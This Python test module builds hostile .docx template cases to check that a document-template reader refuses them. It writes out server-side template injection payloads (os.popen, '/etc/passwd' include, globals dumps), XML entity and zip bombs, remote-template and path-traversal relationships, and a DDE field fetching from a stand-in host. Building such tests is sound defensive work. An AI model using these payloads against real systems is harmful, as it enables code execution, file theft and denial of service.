"""Word templates: commands that would reach into the program, repeat without end, or fetch from elsewhere."""

from collections.abc import Iterator
from functools import partial

from tests.hostile import damage, zips
from tests.hostile.cases import Case, Content, Reader
from tests.hostile.seeds import Seeds
from tests.hostile.spreadsheets import LAUGHS, OUTSIDE, QUADRATIC
from tests.hostile.zips import edited, packed, repacked

_FILE = "surat-pengantar.docx"
_BODY, _RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_EXTERNAL = '<Relationship Id="rIdX" Type="{}/{}" Target="{}" TargetMode="External"/>'
_COMMANDS = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__ }}",
    "{{ surat.__class__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ ''['__class__'] }}",
    "{{ ''|attr('__class__') }}",
    "{{ lipsum.__globals__ }}",
    "{{ config }}",
    "{{ range(1000000000)|list }}",
    "{{ 'a' * 9999999999 }}",
    "{{ 9**9**9 }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends 'x' %}",
    "{% set a = 1 %}",
    "{% macro m() %}{% endmacro %}",
    "{% for a in range(9999999999) %}x{% endfor %}",
    "{% raw %}{{ x }}{% endraw %}",
    "{% block a %}{% endblock %}",
    "{{ ''.join(['a']) }}",
    "{{ namespace() }}",
    "{{ 'x'|replace('x', 'y' * 999) }}",
    "{{ 'a'.format }}",
    "{% if 1 %}" * 300,
    "{{ " + "(" * 3_000 + " }}",
    "{{ a" + ".b" * 5_000 + " }}",
    "{{ a" + "|upper" * 3_000 + " }}",
    "{{ a" + " and a" * 3_000 + " }}",
    "{{ a" + " if a" * 200 + " }}",
    "{# tak tertutup",
    "{{",
    "}}",
    "{%",
    "{{ '\\u0000' }}",
    "{{ 1e999 }}",
    "{{ " + "9" * 5_000 + " }}",
    "{% for a in b %}" * 30 + "{% endfor %}" * 30,
    "{{r x }}",
    "{%vm%}",
    "{%hm%}",
    "{%colspan 9999999999%}",
    "{%cellbg 'x'%}",
)


def _case(name: str, content: Content, refused: bool | None = True) -> Case:
    return Case(f"templat: {name}", Reader.TEMPLATE, _FILE, content, refused)


def cases(seeds: Seeds) -> Iterator[Case]:
    """Give all of this family."""
    sound = seeds.read(_FILE)
    yield from damage.cut_off(Reader.TEMPLATE, _FILE, sound, 0.3, 0.95)
    yield from damage.altered(Reader.TEMPLATE, _FILE, sound, 4)
    yield from damage.something_else(Reader.TEMPLATE, _FILE)
    for number, command in enumerate(_COMMANDS):
        yield _case(
            f"perintah {number} {command[:24]}",
            _with_text(sound, command),
            None if number in (22, 34) else True,
        )
    yield from _bombs(sound)
    yield from _foreign(sound)
    yield _case("xlsx", seeds.read("rekap.xlsx"))


def _with_text(sound: bytes, text: str) -> bytes:
    spelled = text.replace("&", "&amp;").replace("<", "&lt;")
    paragraph = f"<w:p><w:r><w:t>{spelled}</w:t></w:r></w:p>".encode()
    return edited(sound, _BODY, lambda xml: _before_end(xml, paragraph))


def _declared(xml: bytes, start: bytes, text: bytes = b"") -> bytes:
    """Give *xml* with another beginning, and with *text* before its end if there is any."""
    body = xml.partition(b"?>")[2]
    return start + (_before_end(body, text) if text else body)


def _before_end(xml: bytes, added: bytes) -> bytes:
    at = xml.rindex(b"<w:sectPr")
    return xml[:at] + added + xml[at:]


def _bombs(sound: bytes) -> Iterator[Case]:
    for name, declared, used in (
        ("miliaran tawa", LAUGHS, "&a11;"),
        ("kuadratis", QUADRATIC, "&a;" * 9_000),
        ("entitas luar", OUTSIDE, "&a;"),
    ):
        start = f'<?xml version="1.0"?>{declared}'.encode()
        text = f"<w:p><w:r><w:t>{used}</w:t></w:r></w:p>".encode()
        bad = edited(
            sound,
            _BODY,
            partial(_declared, start=start, text=text),
        )
        yield _case(name, bad, None if name == "entitas luar" else True)
        yield _case(
            f"{name} di gaya",
            edited(sound, "word/styles.xml", partial(_declared, start=start)),
            None,
        )
    yield _case("membengkak", zips.swollen(sound, "word/media/a.bin", 60))
    yield _case("membengkak dan berbohong", zips.lying(zips.swollen(sound, _BODY, 300), _BODY, 100))
    yield _case(
        "gambar membengkak, berbohong",
        zips.lying(zips.swollen(sound, "word/media/a.bin", 300), "word/media/a.bin", 100),
        None,
    )
    yield _case("1.500 bagian", repacked(sound, {f"word/{n}.xml": b"<x/>" for n in range(1_500)}))
    yield _case(
        "sedalam 50.000",
        edited(sound, _BODY, lambda xml: _before_end(xml, b"<w:p>" * 50_000 + b"</w:p>" * 50_000)),
    )
    many = b"<w:p><w:r><w:t>{{ pejabat }}</w:t></w:r></w:p>" * 20_000
    yield _case("20.000 isian", edited(sound, _BODY, lambda xml: _before_end(xml, many)), None)
    blank = b"<w:p/>" * 200_000
    yield _case("200.000 paragraf", edited(sound, _BODY, lambda xml: _before_end(xml, blank)), None)
    half = b"<w:p><w:r><w:t>{{</w:t></w:r></w:p>" * 3_000
    yield _case("3.000 kurung terbuka", edited(sound, _BODY, lambda xml: _before_end(xml, half)))
    braces = _with_text(sound, "{" * 200_000)
    yield _case("200.000 kurung", braces)
    yield _case("kurung berselang", _with_text(sound, "{% " * 60_000))
    yield _case("bertumpuk", zips.overlapping([_BODY, "[Content_Types].xml"], b"<x/>"))
    yield _case("bersandi", zips.flagged(sound, 1))
    yield _case("cara padat lain", zips.method(sound, 12))
    yield _case("bagian kembar", packed([*zips.parts_of(sound).items(), (_BODY, b"<x/>")]), None)


def _foreign(sound: bytes) -> Iterator[Case]:
    for kind in ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "aFChunk"):
        relation = _EXTERNAL.format(_OFFICE, kind, "http://contoh.invalid/x").encode()
        added = edited(
            sound,
            _RELATIONS,
            zips.replacing(b"</Relationships>", relation + b"</Relationships>"),
        )
        yield _case(f"hubungan luar {kind}", added)
    hyper = _EXTERNAL.format(_OFFICE, "hyperlink", "https://contoh.go.id").encode()
    yield _case(
        "tautan biasa",
        edited(sound, _RELATIONS, lambda xml: xml.replace(b"</Relationships>", hyper + b"</Relationships>")),
        refused=False,
    )
    far = _EXTERNAL.format(_OFFICE, "attachedTemplate", "\\\\pelayan\\x.dotm")
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    settings = f'<Relationships xmlns="{package}">{far}</Relationships>'
    yield _case("templat di jaringan", repacked(sound, {"word/_rels/settings.xml.rels": settings.encode()}))
    for old, new in (
        (b'Target="', b'Target="../../../../'),
        (b'Target="', b'Target="/etc/'),
        (b'Id="', b'Id="x" Id2="'),
    ):
        yield _case(
            f"hubungan {new.decode()[:24]}",
            edited(sound, _RELATIONS, zips.replacing(old, new)),
            None,
        )
    properties = b"application/vnd.openxmlformats-package.core-properties+xml"
    strange = edited(sound, "[Content_Types].xml", zips.replacing(properties, b"application/xml"))
    yield _case("keterangan dokumen berjenis lain", strange, None)
    yield _case("makro", repacked(sound, {"word/vbaProject.bin": b"makro"}))
    yield _case("tanpa isi", repacked(sound, {_BODY: None}))
    yield _case("tanpa daftar jenis", repacked(sound, {"[Content_Types].xml": None}))
    yield _case("tanpa hubungan", repacked(sound, {"_rels/.rels": None}))
    fields = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE "http://contoh.invalid/x"'
        b" DDEAUTO c:\\x</w:instrText></w:r></w:p>"
    )
    yield _case("medan DDE", edited(sound, _BODY, lambda xml: _before_end(xml, fields)))
